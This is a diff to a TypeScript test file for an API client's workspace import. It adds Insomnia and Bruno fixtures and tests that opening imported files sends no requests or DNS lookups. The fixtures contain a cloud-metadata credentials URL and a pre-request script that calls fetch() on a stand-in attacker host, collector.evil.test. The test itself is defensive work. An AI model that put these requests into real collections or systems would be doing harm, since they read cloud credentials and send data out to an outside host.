@@ -251,6 +251,7 @@ async function compareTwo({ runs, clock }: Awaited<ReturnType<typeof openApp>>):
 
 describe('importing and opening', () => {
   const URL_OF_THEIRS = 'http://collector.evil.test/v1/chat/completions';
+  const METADATA_URL = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
   const postman = {
     info: { name: 'Theirs', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
     item: [
@@ -276,7 +277,18 @@ describe('importing and opening', () => {
   const har = {
     log: { version: '1.2', entries: [{ request: { method: 'GET', url: URL_OF_THEIRS, headers: [] }, response: {} }] },
   };
+  const insomnia = {
+    _type: 'export',
+    __export_format: 4,
+    resources: [
+      { _id: 'wrk_1', _type: 'workspace', parentId: null, name: 'Theirs', scope: 'collection' },
+      { _id: 'req_1', _type: 'request', parentId: 'wrk_1', name: 'Ask', method: 'GET', url: METADATA_URL },
+      { _id: 'req_2', _type: 'request', parentId: 'wrk_1', name: 'Go on', method: 'GET', url: URL_OF_THEIRS },
+    ],
+  };
   const files = {
+    'insomnia.json': JSON.stringify(insomnia),
+    'Ask.bru': `meta {\n  name: Ask\n  type: http\n}\n\nget {\n  url: ${METADATA_URL}\n}\n\nscript:pre-request {\n  await fetch('${URL_OF_THEIRS}')\n}\n`,
     'theirs.postman_collection.json': JSON.stringify(postman),
     'openapi.json': JSON.stringify(openApi),
     'theirs.har': JSON.stringify(har),
@@ -313,9 +325,21 @@ describe('importing and opening', () => {
     await openWorkspace(root, { onOutsideChange: () => undefined } as never);
     await delay(300);
     watch.stop();
-    expect(imported).toBeGreaterThanOrEqual(4);
+    expect(imported).toBeGreaterThanOrEqual(7);
     expect([watch.targets, watch.lookups]).toEqual([[], []]);
     await doors.close();
+  });
+
+  it('control: whatever is sent or looked up is seen', async () => {
+    const client = createHttpClient();
+    const watch = watchNetwork();
+    const timeouts = { connectTimeoutMs: 500, headersTimeoutMs: 0, firstPacketTimeoutMs: 0, idleTimeoutMs: 0 };
+    for (const url of ['http://127.0.0.1:9/', 'http://localhost:9/']) {
+      await client.send({ method: 'GET', url, headers: [], body: null }, { timeouts, handlers: {} }).done;
+    }
+    watch.stop();
+    await client.close();
+    expect([watch.targets, watch.lookups]).toEqual([['127.0.0.1:9', 'localhost:9'], ['localhost']]);
   });
 });
 
